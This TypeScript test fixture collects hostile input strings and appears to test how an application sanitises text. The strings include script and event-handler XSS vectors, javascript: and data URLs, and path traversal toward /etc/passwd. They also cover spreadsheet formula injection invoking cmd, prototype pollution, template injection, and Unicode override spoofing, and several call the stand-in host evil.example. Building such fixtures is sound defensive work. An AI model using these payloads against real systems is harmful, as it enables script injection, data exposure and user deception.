import type { RulesetId } from '../catalog/entry.ts';
import { rulesetIds } from '../rules/rulesets.ts';

/**
 * Texts that an attacker could put into a file so that a program interprets them: markup, addresses,
 * CSS, Markdown, PDF and spreadsheet formulas, and characters that act on their surroundings.
 * All of them would call `window.__hacked`.
 */
export const hostileStrings: Readonly<Record<string, string>> = {
  script: '<script>window.__hacked=1</script>',
  scriptBroken: '"><scr<script>ipt src=//evil.example/x.js></script>',
  endOfTitle: '</title></style></textarea></script><script>window.__hacked=1</script>',
  eventHandler: '<img src=x onerror="window.__hacked=1">',
  eventInAttribute: '" onmouseover="window.__hacked=1" autofocus onfocus="window.__hacked=1" x="',
  eventInSingleQuotes: "' onclick='window.__hacked=1' x='",
  svg: '<svg/onload=window.__hacked=1><animate onbegin=window.__hacked=1 attributeName=x dur=1s>',
  svgLink: '<svg><a xlink:href="javascript:window.__hacked=1"><text y=20>x</text></a></svg>',
  mathMl: '<math><mtext><style><img src=x onerror=window.__hacked=1></style></mtext></math>',
  frame: '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe><object data=//evil.example></object>',
  form: '<form action=//evil.example><input name=a><button formaction=javascript:window.__hacked=1>x</form>',
  base: '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  comment: '<!--><script>window.__hacked=1</script--> ]]> <![CDATA[<x>]]>',
  entity: '&lt;script&gt;window.__hacked=1&lt;/script&gt; &#x3C;b&#x3E; &amp;amp; &nbsp;',
  javascriptUrl: 'javascript:window.__hacked=1',
  javascriptUrlHidden: ' \u0001java\tscript&colon;window.__hacked=1//',
  dataUrl: 'data:text/html,<script>window.__hacked=1</script>',
  dataPicture: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hacked=1"/>',
  address: 'https://evil.example/?q=1#x www.evil.example mailto:a@evil.example //evil.example',
  filePath: '../../../etc/passwd C:\\Windows\\System32\\con.txt file:///etc/passwd \\\\evil.example\\share',
  deviceName: 'CON.',
  deviceNameRaised: 'com¹',
  markdownLink: '[click](javascript:window.__hacked=1) [x]: https://evil.example "t" <https://evil.example>',
  markdownImage: '![x](https://evil.example/x.png "t")![y][x]',
  markdownFence: '```html\n<script>window.__hacked=1</script>\n```\n~~~\n    code',
  markdownTable: '| a | b |\n|---|---|\n| c | d |\n\n# Title\n- [x] done\n> quoted\n1. one\n***\n===',
  markdownMarks: '**b** _i_ `c` ~~d~~ ||e|| ==f== $g$ ^h^ :smile: @everyone #1 \\*x\\* [^1] <b>',
  markdownHtml: '<details open ontoggle=window.__hacked=1><summary>x</summary></details>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that looks like a template
  templates: '{{constructor.constructor("window.__hacked=1")()}} ${window.__hacked=1} <%= 1 %> #{1} {% x %} `${1}`',
  format: '%s%n%x %d %00 $1 $& $` {0}',
  pdfOperators: ') Tj ET Q /JavaScript (app.alert\\(1\\)) /OpenAction 1 0 R >> endobj',
  pdfTrailer: 'endstream endobj xref 0 1 trailer << /Root 1 0 R >> startxref 0 %%EOF',
  pdfHex: '<FEFF0041> >> /URI (https://evil.example) /S /URI \\051 \\\\) \\( (((',
  pdfCarriageReturns: 'č ĊĊ ਊ ഍ \u0a0d \u0d0a \u5c28 \u2829 \u285c',
  // Read byte for byte, it is a line that begins an object of a PDF, and its contents.
  pdfObject: '\u0d0a\u3920\u3020\u6f62\u6a0d\u0a3c\u3c2f\u5552\u4920\u313e\u3e0d\u0a65\u6e64\u6f62\u6a0d\u0a20',
  cssEnd: '"; } body { background: url(http://evil.example/a) } @import "//evil.example/b"; x { y: "',
  cssEscapes:
    '\\22 \\a } </style><style>@import url(//evil.example)</style> expression(window.__hacked=1) -moz-binding:url(x)',
  cssComment: '*/ } * { display: none !important } /*',
  formula: '=HYPERLINK("http://evil.example","x")',
  formulaPlus: "+1+cmd|' /C calc'!A0",
  formulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
  formulaMinus: '-2+3\t=1+1\r\n=1+1',
  csv: '",=1+1,"\r\n"a";b\t"',
  json: '"}],"version":99,"__proto__":{"polluted":1},"x":"',
  prototype: '__proto__',
  constructorName: 'constructor',
  nullByte: 'a\u0000b\u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f\u0085',
  lineSeparators: 'a\u2028b\u2029c\u000bd\u000ce\rf\ng',
  override: 'abc\u202edef gpj.exe\u202d',
  isolates: '\u2067\u2066abc\u2069\u2069\u2069\u2068 def \u202b\u202a ghi',
  marks: '\u200e\u200f\u061c שלום مرحبا abc',
  zeroWidth: 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180e',
  tags: 'x\u{e0001}\u{e0041}\u{e007f} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f} \ufe0f\u20e3',
  tower: `Z${'\u0310\u0301\u0336\u0489'.repeat(60)}algo`,
  halves: 'a\ud800b\udc00\udbffc\ufffe\uffff',
  wideLetters: '＜script＞window.__hacked=1＜/script＞ ﹤b﹥ ＂ ＇',
  longWord: 'W'.repeat(1_000),
  longText: '<b>word</b> & "more" '.repeat(45),
  manyLines: 'a\n'.repeat(200),
  spaces: ' \t\u00a0\u3000\u2003 ',
};

/** Each with its name and a ruleset; the rulesets take turns. */
export const eachHostile: readonly (readonly [name: string, text: string, ruleset: RulesetId])[] = Object.entries(
  hostileStrings,
).map(([name, text], i) => [name, text, rulesetIds[i % rulesetIds.length] ?? '']);

/** All of them, for screens drawn once with a different one in each place. */
export const allHostile: readonly string[] = Object.values(hostileStrings);

/**
 * The start of the texts, and a ruleset: for output made once with a different text in each place. A text moves to
 * other places in each turn.
 */
export const hostileTurns: readonly { readonly from: number; readonly ruleset: RulesetId }[] = [0, 1, 2, 3, 4, 5].map(
  (turn) => ({
    from: turn * 19 + Math.floor(turn / 3) * 7,
    ruleset: rulesetIds[turn % rulesetIds.length] ?? 'man-to-man',
  }),
);
